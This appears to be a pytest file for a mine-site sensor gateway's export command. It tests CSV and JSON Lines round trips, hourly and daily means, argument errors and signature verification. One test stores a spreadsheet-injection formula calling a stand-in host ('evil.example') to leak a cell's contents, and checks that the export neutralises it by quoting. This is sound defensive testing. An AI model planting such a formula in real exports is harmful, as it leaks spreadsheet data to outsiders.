"""`minewatch-gateway export` against a real influxd: exact round trips, period means with their
completeness, and bad arguments refused with exit 2."""

from __future__ import annotations

import csv
import fcntl
import http.server
import json
import os
import pty
import select
import struct
import subprocess
import sys
import termios
import threading
import urllib.parse
from datetime import timedelta
from pathlib import Path
from typing import ClassVar

import pytest

from gateway.cli import main
from gateway.timerange import format_time, from_ms
from tests import regdata
from tests.helpers import Influx


@pytest.fixture
def site(influx: Influx, tmp_path: Path) -> Path:
    regdata.dust_site(influx, days=3)
    return regdata.gateway_config(tmp_path / "gateway.toml", influx)


def _export(config: Path, out: Path, *extra: str) -> int:
    args = ["--site", regdata.SITE, "--start", "2026-11-01", "--end", "2026-11-04", "--out", str(out)]
    return main(["export", "--config", str(config), *args, *extra])


def test_csv_round_trip_is_exact(site: Path, influx: Influx, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    assert _export(site, out, "--node", "haul-road", "--metrics", "pm2_5,pm10") == 0
    with out.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    db = influx.rows(
        "SELECT * FROM reading WHERE node = 'haul-road' AND time > '2026-11-01T00:00:00Z' "
        "AND time <= '2026-11-04T00:00:00Z'"
    )
    assert len(rows) == len(db) == 3 * 1440 - 360
    by_seq = {int(r["seq"]): r for r in rows}
    for point in db:
        row = by_seq[int(point["seq"])]
        assert row["time"] == format_time(from_ms(point["time"]))
        for name in ("pm2_5", "pm2_5_raw", "pm10", "pm10_raw"):
            if point[name] is None:
                assert row[name] == ""
            else:
                assert float(row[name]) == float(point[name])  # exact: no rounding on the way
        assert row["pm2_5_cal"] == (point["pm2_5_cal"] or "")
        assert row["flags"] == point["flags"]
        assert row["signed"] == ("true" if point["signed"] else "")
        assert row["kid"] == (point["kid"] or "")
    assert rows[0]["time"] == "2026-11-01T00:01:00Z"
    assert rows[0]["flags"] == "warming_up"
    fault = next(r for r in rows if r["flags"] == "sensor_fault")
    # numbers as InfluxDB writes them: the shortest text of the same double, 0.0 as "0"
    assert (fault["pm2_5"], fault["pm2_5_raw"], fault["pm2_5_n"]) == ("", "0", "0")
    meta = json.loads((tmp_path / "export.csv.columns.json").read_text())
    assert [c["name"] for c in meta["columns"]] == list(rows[0].keys())
    assert meta["rows"] == len(rows)
    assert next(c for c in meta["columns"] if c["name"] == "pm2_5")["unit"] == "µg/m³"
    # the sidecar's query gives the same rows
    assert len(influx.rows(meta["influxql"])) == len(rows)


def test_jsonl_round_trip_is_exact_and_typed(site: Path, influx: Influx, tmp_path: Path) -> None:
    out = tmp_path / "export.jsonl"
    assert _export(site, out, "--format", "jsonl", "--metrics", "turbidity") == 0
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    db = influx.rows("SELECT turbidity, turbidity_raw, seq FROM reading WHERE node = 'river-down'")
    assert len(rows) == len(db) == 288  # only readings that carry turbidity
    assert {r["node"] for r in rows} == {"river-down"}
    assert [r["turbidity"] for r in rows] == [float(p["turbidity"]) for p in db]
    assert all(isinstance(r["turbidity_n"], int) and r["turbidity_cal"] is None for r in rows)
    assert rows[-1]["time"] == "2026-11-02T00:00:00Z"  # river-down's last reading, ending day 1


@pytest.mark.parametrize("period", ["1h", "24h"])
def test_average_means_and_completeness(site: Path, influx: Influx, tmp_path: Path, period: str) -> None:
    out = tmp_path / "means.csv"
    assert _export(site, out, "--node", "haul-road", "--metrics", "pm2_5", "--average", period) == 0
    with out.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    db = influx.rows(
        f"SELECT mean(pm2_5), count(pm2_5) FROM reading WHERE node = 'haul-road' AND "
        f"time > '2026-11-01T00:00:00Z' AND time <= '2026-11-04T00:00:00Z' "
        f"GROUP BY time({period}, 1ms) fill(none)"
    )
    db = [p for p in db if p["time"] > regdata.ms(regdata.DAY0)]
    assert len(db) == (3 if period == "24h" else 3 * 24 - 5)  # 02:00-08:00 off: 5 empty hours
    assert len(rows) == (3 if period == "24h" else 3 * 24)  # an hour without data is listed too
    assert [r["start"] for r in rows] == sorted(r["start"] for r in rows)
    empty = [r for r in rows if r["pm2_5_count"] == "0"]
    assert len(empty) == len(rows) - len(db)
    assert all(r["pm2_5_mean"] == "" and r["pm2_5_completeness"] == "0.0" for r in empty)
    if period == "1h":
        assert [r["start"][11:16] for r in empty] == ["02:00", "03:00", "04:00", "05:00", "06:00"]
    full = [r for r in rows if r["pm2_5_count"] != "0"]
    for row, point in zip(full, db, strict=True):
        assert float(row["pm2_5_mean"]) == round(point["mean"], 2)  # one decimal more, as the report
        assert len(row["pm2_5_mean"].partition(".")[2]) <= 2  # no float noise
        assert int(row["pm2_5_count"]) == point["count"]
        assert row["interval_s"] == "60"
    if period == "24h":
        assert [r["start"] for r in rows] == [
            "2026-11-01T00:00:00Z",
            "2026-11-02T00:00:00Z",
            "2026-11-03T00:00:00Z",
        ]
        # day 1 lost one sensor-fault reading, day 3 the six hours the node was off
        assert [float(r["pm2_5_completeness"]) for r in rows] == [round(1439 / 1440, 4), 1.0, 0.75]
    else:
        assert rows[0]["end"] == "2026-11-01T01:00:00Z"
        assert float(rows[0]["pm2_5_completeness"]) == 1.0
        # every hour's completeness, those cut short by the outage and the fault included
        for row in rows:
            assert float(row["pm2_5_completeness"]) == round(int(row["pm2_5_count"]) / 60, 4)
        assert min(float(r["pm2_5_completeness"]) for r in rows) < 1.0


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--start", "2026-11-05", "--end", "2026-11-01"], "must be after --start"),
        (["--start", "yesterday", "--end", "2026-11-01"], "is not a date or time"),
        (["--start", "2026-11-01", "--end", "2026-11-02", "--metrics", "pm25"], "unknown metric 'pm25'"),
        (["--start", "2026-11-01", "--end", "2026-11-02", "--node", "Bad/Node"], "is not a valid id"),
    ],
)
def test_bad_arguments_exit_2_with_a_clear_message(
    site: Path, args: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["export", "--config", str(site), "--site", regdata.SITE, *args])
    assert code == 2
    assert message in capsys.readouterr().err


def test_bad_choice_exits_2(site: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["export", "--config", str(site), "--site", "x", "--start", "2026-11-01", "--end", "2026-11-02",
              "--average", "8h"])  # fmt: skip
    assert exc.value.code == 2
    assert "--average" in capsys.readouterr().err


def test_stream_reads_across_chunks_like_query(site: Path, influx: Influx) -> None:
    from gateway.config import InfluxConfig
    from gateway.stores.influx_v1 import InfluxV1

    store = InfluxV1(InfluxConfig(url=influx.url, database=influx.db, api="v1"))  # type: ignore[arg-type]
    text = 'SELECT "seq", "turbidity" FROM "reading" WHERE "node" = \'river-down\''
    streamed = list(store.stream(text, chunk_size=7))
    assert len(streamed) == 288
    assert streamed == store.query(text)
    store.close()


class _V2Query(http.server.BaseHTTPRequestHandler):
    """InfluxDB 2.x's v1-compatible /query, as far as export uses it: records what it was asked."""

    seen: ClassVar[list[tuple[str, dict[str, list[str]]]]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        form = urllib.parse.parse_qs(body)
        type(self).seen.append((self.headers.get("Authorization", ""), form))
        if form["q"][0].startswith("SHOW SERIES"):
            doc = {"results": [{"statement_id": 0, "series": [{"columns": ["key"],
                "values": [["reading,node=a,site=tsagaan"]]}]}]}  # fmt: skip
        elif form["q"][0].startswith("SHOW FIELD KEYS"):
            doc = {
                "results": [
                    {
                        "statement_id": 0,
                        "series": [
                            {
                                "name": "reading",
                                "columns": ["fieldKey", "fieldType"],
                                "values": [["pm2_5", "float"]],
                            }
                        ],
                    }
                ]
            }
        elif any(f'FROM "{m}' in form["q"][0] for m in ("maintenance", "observation")):
            doc = {"results": [{"statement_id": 0}]}  # no visits, no observations recorded
        else:
            doc = {"results": [{"statement_id": 0, "series": [{"name": "reading",
                "columns": ["time", "site", "node", "seq", "flags", "pm2_5", "pm2_5_n"],
                "values": [[1793491260000, "tsagaan", "a", 1, "", 12, 60]]}]}]}  # fmt: skip
        payload = (json.dumps(doc) + "\n").encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args: object) -> None:
        pass


def test_an_influxdb2_is_read_through_its_v1_compatible_query(tmp_path: Path) -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _V2Query)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    token = tmp_path / "token"
    token.write_text("s3cret\n")
    token.chmod(0o600)
    config = tmp_path / "gateway.toml"
    config.write_text(
        f'[influxdb]\nurl = "http://127.0.0.1:{server.server_address[1]}"\napi = "v2"\n'
        f'bucket = "mine-data"\ntoken_file = "{token}"\n'
    )
    out = tmp_path / "v2.csv"
    try:
        assert _export(config, out) == 0
    finally:
        server.shutdown()
    assert {auth for auth, _ in _V2Query.seen} == {"Token s3cret"}
    assert {form["db"][0] for _, form in _V2Query.seen} == {"mine-data"}
    rows = list(csv.DictReader(out.open(newline="")))
    assert [(r["time"], r["pm2_5"], r["pm2_5_n"]) for r in rows] == [("2026-11-01T00:01:00Z", "12", "60")]


def test_progress_bar_only_on_a_terminal(site: Path, tmp_path: Path) -> None:
    args = ["-m", "gateway.cli", "export", "--config", str(site), "--site", regdata.SITE,
            "--start", "2026-11-01", "--end", "2026-11-04", "--node", "haul-road"]  # fmt: skip
    master, slave = pty.openpty()
    # a real terminal has a size; tqdm fits its bar into it (0 columns: no bar at all)
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))
    with open(os.devnull, "w") as devnull:
        proc = subprocess.run(
            [sys.executable, *args, "--out", str(tmp_path / "a.csv")],
            stderr=slave,
            stdout=devnull,
            timeout=120,
        )
    os.close(slave)
    seen = b""
    while True:
        ready, _, _ = select.select([master], [], [], 1)
        if not ready:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    os.close(master)
    assert proc.returncode == 0
    assert b"export: 100%" in seen  # tqdm on the terminal
    piped = subprocess.run([sys.executable, *args], capture_output=True, timeout=120)
    assert piped.returncode == 0
    assert b"%" not in piped.stderr  # no bar when stderr is not a terminal
    assert piped.stdout.count(b"\n") == 3 * 1440 - 360 + 1


def test_average_periods_cut_by_the_range_show_their_partial_completeness(site: Path, tmp_path: Path) -> None:
    out = tmp_path / "means.jsonl"
    args = ["--site", regdata.SITE, "--start", "2026-11-01T18:00:00Z", "--end", "2026-11-02T06:00Z"]
    more = [
        "--node",
        "haul-road",
        "--metrics",
        "pm10",
        "--average",
        "24h",
        "--format",
        "jsonl",
        "--out",
        str(out),
    ]
    assert main(["export", "--config", str(site), *args, *more]) == 0
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert [(r["start"], r["pm10_count"], r["pm10_completeness"]) for r in rows] == [
        ("2026-11-01T00:00:00Z", 360, 0.25),  # 18:00 < time <= 24:00 of a 24-hour period
        ("2026-11-02T00:00:00Z", 360, 0.25),
    ]


def test_an_export_of_signed_readings_re_verifies_and_a_changed_value_does_not(
    influx: Influx, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from contract.signing import Signer
    from contract.wire import ReadingPayload
    from gateway.points import to_line
    from gateway.trust.provision import register

    signer = Signer.from_seed(bytes(range(32)))
    keys = tmp_path / "keys"
    keys.mkdir()
    register(keys, regdata.SITE, "haul-road", signer, now=regdata.DAY0)
    lines = []
    for i in range(1, 31):
        reading = ReadingPayload.model_validate(
            {
                "schema": 1,
                "site": regdata.SITE,
                "node": "haul-road",
                "seq": i,
                "ts": regdata.DAY0 + timedelta(minutes=i),
                "period_s": 60,
                "metrics": {
                    "pm2_5": {"value": 10.0 + i / 3, "raw": 11.1 * i, "n": 60, "cal": "pms-a@2026-10-01"},
                    "rh": {"value": 41.25, "n": 60},
                },
                "flags": ["high_humidity"] if i % 7 == 0 else [],
            }
        )
        lines.append(to_line(signer.sign(reading)))  # what the gateway stores for a verified reading
    influx.write(lines)
    config = regdata.gateway_config(tmp_path / "gateway.toml", influx)
    out = tmp_path / "signed.csv"
    assert _export(config, out) == 0  # every stored metric: a signature covers them all
    rows = list(csv.DictReader(out.open(newline="")))
    assert (
        len(rows) == 30
        and {r["period_s"] for r in rows} == {"60"}
        and {r["signed"] for r in rows} == {"true"}
    )
    capsys.readouterr()
    assert main(["verify", "--input", str(out), "--keys", str(keys)]) == 0
    assert "30 rows: 30 verified" in capsys.readouterr().out
    text = out.read_text().replace("41.25", "41.5", 1)  # one humidity value changed
    out.write_text(text)
    assert main(["verify", "--input", str(out), "--keys", str(keys)]) == 1
    assert "29 verified" in capsys.readouterr().out


def test_calibrate_apply_on_an_export_reproduces_the_stored_values(influx: Influx, tmp_path: Path) -> None:
    from calibration import cli as calibrate_cli
    from calibration.presets import load_preset
    from contract.wire import ReadingPayload
    from gateway.points import to_line

    cal = load_preset("epa-us-2021")
    lines = []
    for i in range(1, 41):
        raw, rh = 3.7 * i + 0.123, 20.0 + i
        value = cal.apply(raw, rh=rh).value
        reading = ReadingPayload.model_validate(
            {
                "schema": 1,
                "site": regdata.SITE,
                "node": "haul-road",
                "seq": i,
                "ts": regdata.DAY0 + timedelta(minutes=i),
                "period_s": 60,
                "metrics": {
                    "pm2_5": {"value": value, "raw": raw, "n": 60, "cal": cal.id},
                    "rh": {"value": rh, "raw": rh, "n": 60},
                },
            }
        )
        lines.append(to_line(reading))
    influx.write(lines)
    out = tmp_path / "raw.csv"
    assert (
        _export(regdata.gateway_config(tmp_path / "gateway.toml", influx), out, "--metrics", "pm2_5,rh") == 0
    )
    recomputed = tmp_path / "recomputed.csv"
    args = ["apply", "--cal", "epa-us-2021", "--input", str(out), "--out", str(recomputed)]
    assert calibrate_cli.main(args) == 0
    rows = list(csv.DictReader(recomputed.open(newline="")))
    assert len(rows) == 40
    assert all(r["value"] == r["pm2_5"] and r["cal"] == r["pm2_5_cal"] for r in rows)


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"calibration")'


def test_a_formula_stored_before_the_contract_refused_it_is_exported_as_text(
    influx: Influx, tmp_path: Path
) -> None:
    """Old data written directly to InfluxDB: the text cell gets its quote, numbers (negative
    temperatures too) stay numbers, and the JSON Lines keep the stored text."""
    ts = regdata.DAY0 + timedelta(minutes=1)
    metrics: dict[str, tuple[float | None, float | None, int, str | None]] = {
        "pm2_5": (12.5, 14.0, 60, FORMULA),
        "air_temp": (-5.2, -5.0, 60, "@SUM(A1:A9)"),
    }
    influx.write([regdata.reading_line("haul-road", ts, 1, metrics, flags="-1+1")])
    config = regdata.gateway_config(tmp_path / "gateway.toml", influx)
    out = tmp_path / "old.csv"
    assert _export(config, out, "--metrics", "pm2_5,air_temp") == 0
    with out.open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["pm2_5_cal"] == "'" + FORMULA and row["air_temp_cal"] == "'@SUM(A1:A9)"
    assert row["flags"] == "'-1+1"
    assert (row["air_temp"], row["air_temp_raw"], row["pm2_5"]) == ("-5.2", "-5", "12.5")
    jsonl = tmp_path / "old.jsonl"
    assert _export(config, jsonl, "--metrics", "pm2_5,air_temp", "--format", "jsonl") == 0
    (doc,) = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert doc["pm2_5_cal"] == FORMULA and doc["air_temp"] == -5.2  # JSON is no spreadsheet


def test_a_signature_starting_with_plus_is_quoted_in_the_csv_and_still_verifies(
    influx: Influx, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from contract.signing import Signer
    from contract.wire import ReadingPayload
    from gateway.points import to_line
    from gateway.trust.provision import register

    signer = Signer.from_seed(bytes(range(32)))
    keys = tmp_path / "keys"
    keys.mkdir()
    register(keys, regdata.SITE, "haul-road", signer, now=regdata.DAY0)
    seq = 114  # Ed25519 is deterministic: this reading's base64 signature starts with "+"
    reading = signer.sign(
        ReadingPayload.model_validate(
            {
                "schema": 1,
                "site": regdata.SITE,
                "node": "haul-road",
                "seq": seq,
                "ts": regdata.DAY0 + timedelta(minutes=seq),
                "period_s": 60,
                "metrics": {
                    "pm2_5": {"value": 10.0 + seq / 3, "raw": 11.1 * seq, "n": 60, "cal": "pms-a@2026-10-01"},
                    "rh": {"value": 41.25, "n": 60},
                },
                "flags": [],
            }
        )
    )
    assert reading.sig is not None and reading.sig.startswith("+")
    influx.write([to_line(reading)])
    config = regdata.gateway_config(tmp_path / "gateway.toml", influx)
    out = tmp_path / "signed.csv"
    assert _export(config, out) == 0
    (row,) = list(csv.DictReader(out.open(newline="")))
    assert row["sig"] == "'" + reading.sig  # a spreadsheet shows it as text
    capsys.readouterr()
    assert main(["verify", "--input", str(out), "--keys", str(keys)]) == 0
    assert "1 rows: 1 verified" in capsys.readouterr().out


def test_an_unknown_site_or_node_exits_2_and_one_row_is_one_row(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "x.csv"
    args = [
        "export",
        "--config",
        str(site),
        "--start",
        "2026-11-01",
        "--end",
        "2026-11-02",
        "--out",
        str(out),
    ]
    assert main([*args, "--site", "tsagan"]) == 2
    assert "--site tsagan: no readings of this site are stored (sites: tsagaan)" in capsys.readouterr().err
    assert not out.exists()
    assert main([*args, "--site", regdata.SITE, "--node", "haul-raod"]) == 2
    assert "(nodes: haul-road, river-down)" in capsys.readouterr().err
    one = [
        "--site",
        regdata.SITE,
        "--node",
        "haul-road",
        "--start",
        "2026-11-01",
        "--end",
        "2026-11-01T00:01Z",
    ]
    assert main(["export", "--config", str(site), *one, "--out", str(out)]) == 0
    assert capsys.readouterr().err.startswith(f"1 row to {out};")


def test_both_export_formats_verify_and_unsigned_rows_are_counted_apart(
    influx: Influx, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from contract.signing import Signer
    from contract.wire import ReadingPayload
    from gateway.points import to_line
    from gateway.trust.provision import register

    signer = Signer.from_seed(bytes(range(32)))
    keys = tmp_path / "keys"
    register(keys, regdata.SITE, "haul-road", signer, now=regdata.DAY0)
    lines = []
    for node, sign in (("haul-road", True), ("shed", False)):
        for i in range(1, 11):
            reading = ReadingPayload.model_validate(
                {"schema": 1, "site": regdata.SITE, "node": node, "seq": i,
                 "ts": regdata.DAY0 + timedelta(minutes=i), "period_s": 60,
                 "metrics": {"pm2_5": {"value": 10.0 + i / 3, "raw": 11.1 * i, "n": 60}}}
            )  # fmt: skip
            lines.append(to_line(signer.sign(reading) if sign else reading, received=reading.ts))
    influx.write(lines)
    config = regdata.gateway_config(tmp_path / "gateway.toml", influx)
    for fmt in ("csv", "jsonl"):
        out = tmp_path / f"all.{fmt}"
        assert _export(config, out, "--format", fmt) == 0
        capsys.readouterr()
        assert main(["verify", "--input", str(out), "--keys", str(keys)]) == 3  # signed ok, some unsigned
        text = capsys.readouterr().out
        assert "unsigned: 10 rows of tsagaan/shed carry no signature" in text
        assert "20 rows: 10 verified, 10 unsigned" in text and "bad_row" not in text
        one = tmp_path / f"signed.{fmt}"
        assert _export(config, one, "--format", fmt, "--node", "haul-road") == 0
        assert main(["verify", "--input", str(one), "--keys", str(keys)]) == 0
